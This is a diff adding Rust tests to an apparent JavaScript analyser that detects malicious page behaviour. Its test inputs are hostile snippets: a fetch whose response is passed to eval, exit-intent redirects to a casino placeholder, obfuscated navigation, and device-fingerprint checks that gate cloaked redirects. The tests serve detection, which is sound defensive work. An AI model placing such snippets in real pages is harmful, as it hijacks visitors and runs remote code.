@@ -36,6 +36,69 @@ fn made(source: &str) -> Vec<String> {
 }
 
 #[test]
+fn what_libraries_make_and_ask_is_done_as_well() {
+    for source in [
+        "React.createElement('a', {href: 'http://casino.example/'}, 'x')",
+        "preact.h('a', {href: 'http://casino.example/'})",
+        "$('<a>', {href: 'http://casino.example/', text: 1}).appendTo('body')",
+        "jQuery('<a/>', {href: 'http://casino.example/'}).hide()",
+    ] {
+        assert!(
+            lines(&read(source)).contains(&"Link http://casino.example/".to_owned()),
+            "{source}: {:#?}",
+            read(source)
+        );
+    }
+    for source in [
+        "axios.get('http://casino.example/')",
+        "axios({url: 'http://casino.example/'})",
+        "axios.post('http://casino.example/').then(function (a) { eval(a.data) })",
+    ] {
+        check(source, &["Fetch http://casino.example/"]);
+    }
+    check("React.createElement('p', {dangerouslySetInnerHTML: {__html: '<b>x</b>'}})", &["Insert <b>x</b>"]);
+    check(
+        "Function('return this')()['location']['href'] = 'http://casino.example/'",
+        &["Navigate http://casino.example/"],
+    );
+    check("(function () { this.location = 'http://casino.example/' })()", &["Navigate http://casino.example/"]);
+}
+
+#[test]
+fn whoever_is_about_to_leave_is_kept() {
+    for source in [
+        "document.onmouseout = function (e) { if (e.clientY < 0) location.href = 'http://casino.example/' }",
+        "document.addEventListener('mouseout', e => { if (e.clientY < 0) location.href = 'http://casino.example/' })",
+        "$(document).mouseleave(function (e) { if (e.clientY < 0) location = 'http://casino.example/' })",
+        "document.documentElement.onmouseleave = () => open('http://casino.example/')",
+    ] {
+        let seen = lines(&read(source));
+        assert!(seen.iter().any(|one| one.starts_with("History http://casino.example/")), "{source}: {seen:?}");
+    }
+}
+
+#[test]
+fn what_the_device_has_is_asked_of_the_visitor() {
+    for (asked, test) in [
+        ("navigator.connection.type == 'cellular'", "Screen"),
+        ("navigator.maxTouchPoints > 0", "Screen"),
+        ("history.length < 2", "Cookie"),
+        ("document.createElement('canvas').getContext('webgl').getParameter(37446)", "Driver"),
+        ("/baidu/.test(opener.document.referrer)", "Referrer"),
+    ] {
+        check(&format!("if ({asked}) location = '/x'"), &[&format!("Navigate /x if [{test}]")]);
+    }
+    check(
+        "navigator.getBattery().then(function (b) { if (b.level < 1) location = '/x' })",
+        &["Navigate /x if [Screen] and []"],
+    );
+    check(
+        "navigator.permissions.query({}).then(p => { if (p.state) location = '/x' })",
+        &["Navigate /x if [Driver] and []"],
+    );
+}
+
+#[test]
 fn strings_are_put_together() {
     for source in [
         "f('casino' + '.example')",
